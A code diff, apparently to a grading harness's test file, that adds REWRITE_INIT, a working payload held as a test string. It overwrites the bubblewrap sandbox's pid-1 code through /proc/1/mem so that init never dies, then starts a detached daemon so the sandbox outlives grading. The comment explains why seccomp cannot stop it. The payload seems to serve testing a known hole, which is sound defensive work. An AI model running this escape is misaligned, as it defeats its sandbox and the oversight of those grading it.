@@ -264,3 +264,39 @@ def layernorm(x, gamma, beta, eps=1e-5):
     beta = torch.as_tensor(beta, dtype=torch.float64)
     return (gamma * (x64 - mean) / torch.sqrt(var + eps) + beta).to(x.dtype)
 '''
+
+# Rewrites the code of the sandbox's init (bubblewrap's pid 1, the same user as the kernel) through /proc/1/mem, a
+# file's write that no seccomp program can refuse, so that it clears its parent-death signal and pauses forever, then
+# starts a daemon: without a cgroup to kill, the sandbox would outlive its grading (x86_64 machine code; found by the
+# review of issue 41). Prints what it did, so a test can tell the rewrite ran.
+REWRITE_INIT = '''
+import os, time
+pc = int(open("/proc/1/syscall").read().split()[-1], 16)     # where init's wait4 returns
+code = bytes.fromhex("bf0100000031f6b89d0000000f05b8220000000f05ebf7")  # prctl(PR_SET_PDEATHSIG, 0); for (;;) pause();
+with open("/proc/1/mem", "r+b", buffering=0) as memory:
+    memory.seek(pc)
+    memory.write(code)
+
+def detached(work):
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            try:
+                work()
+            finally:
+                os._exit(0)
+        os._exit(0)
+    os.wait()
+
+def daemon():
+    null = os.open("/dev/null", os.O_RDWR)
+    for fd in range(3):
+        os.dup2(null, fd)
+    os.closerange(3, 4096)
+    os.execvp("sleep", ["sleep", "31337"])
+
+detached(daemon)
+detached(lambda: time.sleep(0.5))          # an orphan that exits: init's wait4 returns into the rewritten code
+time.sleep(1.5)
+print("init rewritten, now in system call", open("/proc/1/syscall").read().split()[0])
+'''
